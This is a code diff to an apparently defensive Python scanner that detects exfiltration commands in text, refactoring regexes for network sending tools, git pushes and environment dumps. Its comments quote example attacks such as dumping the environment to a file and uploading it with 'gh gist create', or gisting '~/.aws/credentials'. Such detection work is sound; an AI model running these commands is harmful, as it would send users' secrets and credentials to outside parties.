@@ -22,6 +22,7 @@ from __future__ import annotations
 
 import re
 from collections.abc import Collection, Iterator
+from itertools import islice
 
 from reasoningbank.poisoning.catalogue import SEP, Hit, any_of, words_upto
 from reasoningbank.poisoning.context import Marks, negated, quoted_mention
@@ -162,11 +163,11 @@ _SECRET_LABEL = re.compile(
 )
 # env > /tmp/e.txt && gh gist create /tmp/e.txt: the environment written to a file that is then sent
 _DUMP_TO_FILE = re.compile(rf"(?:^|[\s;&(`$]){_ENV_DUMP}\s?>{{1,2}}\s?(?P<file>[\w./~-]{{1,80}})")
-_SENDS_FILE = (
+_SENDER = re.compile(
     r"\b(?:gh\s{1,3}gist\s{1,3}create|curl|wget|scp|rsync|nc|ncat|aws\s{1,3}s3\s{1,3}cp|gsutil\s{1,3}cp|"
     r"rclone\s{1,3}copy|http|xh)\b"
-    r"[^\n]{0,120}?"
 )
+SENT_FILE_WITHIN = 120
 # gh gist create ~/.aws/credentials
 _GIST_SECRET = re.compile(rf"\bgh\s{{1,3}}gist\s{{1,3}}create\b[^\n]{{0,80}}?(?P<secret>{SECRET_FILE})")
 # git push https://203.0.113.7/x.git / git remote add backup <url> && git push backup / set-url --add --push
@@ -179,6 +180,7 @@ _GIT_REMOTE = re.compile(
     rf"|remote\s(?P<add>add\s(?:-\w{{1,3}}\s){{0,3}}[\w.-]{{1,40}}\s)|remote\sset-url\s(?:--add\s|--push\s){{1,2}}[\w.-]{{1,40}}\s)"
     rf"{_GIT_URL}"
 )
+_GIT_PUSH = re.compile(r"\bgit\s(?:-c\s\S{1,80}\s)?push\b")
 # Where code is pushed every day: a push there is not flagged (an organization allows its own hosts).
 WELL_KNOWN_FORGES = (
     "github.com", "gitlab.com", "bitbucket.org", "dev.azure.com", "ssh.dev.azure.com", "vs-ssh.visualstudio.com",
@@ -255,8 +257,20 @@ def _pushed_outside(match: re.Match[str], lowered: str, allowed_hosts: Collectio
         if match.group("add").split()[-1] in ("origin", "upstream"):
             return False  # the project's own repository (an existing origin cannot be added again)
         line_end = lowered.find("\n", match.end())
-        return re.search(r"\bgit\s(?:-c\s\S{1,80}\s)?push\b", lowered[match.end() : line_end if line_end >= 0 else None]) is not None
+        return _GIT_PUSH.search(lowered, match.end(), line_end if line_end >= 0 else len(lowered)) is not None
     return True
+
+
+def _file_sent(lowered: str, name: str, after: int) -> int:
+    """Where a tool that sends ``name`` over the network ends, later on the line after ``after`` (-1 if
+    none): the first three sending tools are looked at, each for the name within a few words."""
+    line_end = lowered.find("\n", after, after + 400)
+    end = line_end if line_end >= 0 else min(len(lowered), after + 400)
+    for sender in islice(_SENDER.finditer(lowered, after, end), 3):
+        at = lowered.find(name, sender.end(), min(end, sender.end() + SENT_FILE_WITHIN + len(name)))
+        if at >= 0 and not re.match(r"[\w./-]", lowered[at + len(name) : at + len(name) + 1]):
+            return at + len(name)
+    return -1
 
 
 def _command_hits(scan: Text, allowed_hosts: Collection[str]) -> Iterator[Hit]:
@@ -296,11 +310,9 @@ def _command_hits(scan: Text, allowed_hosts: Collection[str]) -> Iterator[Hit]:
             if tool >= 0 and not _public_or_example(substitution):
                 yield scan.hit("exfiltration_command", tool, substitution.end())
     for dump in _DUMPS_TO_FILE.finditer(scan, "exfiltration_command"):
-        line_end = lowered.find("\n", dump.end(), dump.end() + 400)
-        sent = re.compile(_SENDS_FILE + re.escape(dump.group("file")) + r"(?![\w./-])")
-        upload = sent.search(lowered, dump.end(), line_end if line_end >= 0 else dump.end() + 400)
-        if upload is not None:
-            yield scan.hit("exfiltration_command", dump.start(), upload.end())
+        sent = _file_sent(lowered, dump.group("file"), dump.end())
+        if sent >= 0:
+            yield scan.hit("exfiltration_command", dump.start(), sent)
     for gist in _GIST_SECRETS.finditer(scan, "exfiltration_command"):
         if not _public_or_example(gist):
             yield scan.hit("exfiltration_command", *gist.span())
@@ -309,7 +321,9 @@ def _command_hits(scan: Text, allowed_hosts: Collection[str]) -> Iterator[Hit]:
             yield scan.hit("exfiltration_command", *push.span())
     for directory in _COPIED_DIRECTORY.finditer(scan, "exfiltration_command"):
         tool = _tool_before(tools("copy", _COPY_TOOL), lowered, directory.start(), 80, "\n")
-        target = _REMOTE_TARGET.match(lowered, directory.end()) if tool >= 0 and not _public_or_example(directory) else None
+        if tool < 0 or _public_or_example(directory):
+            continue
+        target = _REMOTE_TARGET.match(lowered, directory.end())
         if target is not None:
             yield scan.hit("exfiltration_command", tool, target.end())
     for pattern in _COMMANDS:
